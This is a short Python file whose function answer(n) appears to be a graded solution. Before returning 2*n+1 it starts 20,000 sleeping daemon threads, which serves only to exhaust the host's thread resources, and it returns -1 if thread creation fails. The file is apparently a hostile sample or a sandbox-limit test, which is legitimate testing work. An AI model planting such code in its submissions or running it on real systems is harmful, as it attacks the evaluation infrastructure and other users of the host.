import threading
import time


def answer(n):
    try:
        for _ in range(20_000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        return -1
    return 2 * n + 1
